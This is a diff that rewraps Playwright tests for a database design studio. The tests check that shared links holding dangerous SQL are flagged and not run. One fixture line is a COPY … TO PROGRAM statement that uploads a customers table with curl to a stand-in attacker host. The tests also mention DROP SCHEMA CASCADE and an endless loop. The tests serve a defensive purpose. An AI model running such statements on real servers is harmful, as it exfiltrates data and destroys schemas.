@@ -5,12 +5,20 @@ import { test, expect } from './fixtures';
 /** A link made by the studio's own codec, for a design whose verbatim extras hold `sql`. */
 function linkWith(baseURL: string | undefined, extras: { id: string; sql: string }[]): string {
   const doc: DesignDocument = exampleDocument();
-  doc.design.extras = [...(doc.design.extras ?? []), ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id }))];
+  doc.design.extras = [
+    ...(doc.design.extras ?? []),
+    ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id })),
+  ];
   return shareLink(`${baseURL ?? 'http://127.0.0.1:4173'}/`, doc);
 }
 
-test('a link whose design loops forever opens, names that statement, and the status settles', async ({ page, baseURL }) => {
-  await page.goto(linkWith(baseURL, [{ id: 'x_forever', sql: 'DO $$ BEGIN LOOP END LOOP; END $$;' }]));
+test('a link whose design loops forever opens, names that statement, and the status settles', async ({
+  page,
+  baseURL,
+}) => {
+  await page.goto(
+    linkWith(baseURL, [{ id: 'x_forever', sql: 'DO $$ BEGIN LOOP END LOOP; END $$;' }]),
+  );
   const status = page.getByRole('status', { name: /Postgres status/ });
   // The verbatim statement gets 15 s, then the worker is replaced once and the rest is checked.
   await expect(status).toHaveAccessibleName('Postgres status: 1 error', { timeout: 100_000 });
@@ -33,7 +41,10 @@ test('a link whose design loops forever opens, names that statement, and the sta
   await expect(status).toHaveAccessibleName('Postgres status: 1 error');
 });
 
-test('a link with COPY … TO PROGRAM shows the warning, and the statement is not run', async ({ page, baseURL }) => {
+test('a link with COPY … TO PROGRAM shows the warning, and the statement is not run', async ({
+  page,
+  baseURL,
+}) => {
   await page.goto(
     linkWith(baseURL, [
       { id: 'x_exfil', sql: "COPY customers TO PROGRAM 'curl -T - https://evil.example/loot';" },
@@ -44,8 +55,12 @@ test('a link with COPY … TO PROGRAM shows the warning, and the statement is no
   await expect(status).toHaveAccessibleName('Postgres status: 2 errors', { timeout: 60_000 });
   await page.getByRole('tab', { name: 'Problems' }).click();
   const problems = page.getByRole('list', { name: 'Problems' });
-  await expect(problems.getByRole('listitem').filter({ hasText: 'TO PROGRAM' })).toContainText('Not run: dangerous on a real server. COPY … TO PROGRAM runs a shell command');
-  await expect(problems.getByRole('listitem').filter({ hasText: 'DROP SCHEMA public CASCADE' })).toContainText('deletes a schema and everything in it');
+  await expect(problems.getByRole('listitem').filter({ hasText: 'TO PROGRAM' })).toContainText(
+    'Not run: dangerous on a real server. COPY … TO PROGRAM runs a shell command',
+  );
+  await expect(
+    problems.getByRole('listitem').filter({ hasText: 'DROP SCHEMA public CASCADE' }),
+  ).toContainText('deletes a schema and everything in it');
 
   // Not run: the design's tables are still there (DROP SCHEMA public CASCADE would have removed them).
   await page.getByRole('tab', { name: 'SQL console' }).click();
@@ -56,7 +71,9 @@ test('a link with COPY … TO PROGRAM shows the warning, and the statement is no
     await page.keyboard.type(sql);
     await page.keyboard.press('ControlOrMeta+Enter');
   };
-  await run("SELECT (count(*) > 0)::text AS tables_kept FROM pg_tables WHERE schemaname = 'public' AND tablename = 'customers'");
+  await run(
+    "SELECT (count(*) > 0)::text AS tables_kept FROM pg_tables WHERE schemaname = 'public' AND tablename = 'customers'",
+  );
   await expect(console.getByRole('table').first()).toContainText('true');
 
   // In the console, COPY … PROGRAM is refused, and the next query still answers with rows.
@@ -70,7 +87,9 @@ test('a link with COPY … TO PROGRAM shows the warning, and the statement is no
   const dialog = page.getByRole('dialog', { name: 'Export' });
   await expect(dialog.getByRole('alert')).toContainText('2 statements that act beyond the schema');
   const preview = dialog.getByLabel(/preview/);
-  await expect(preview).toContainText('-- WARNING: this script contains statements that act beyond the schema');
+  await expect(preview).toContainText(
+    '-- WARNING: this script contains statements that act beyond the schema',
+  );
   const text = (await preview.textContent()) ?? '';
   expect(text.indexOf('-- WARNING')).toBe(0);
   expect(text).toMatch(/--\s+COPY customers TO PROGRAM/);
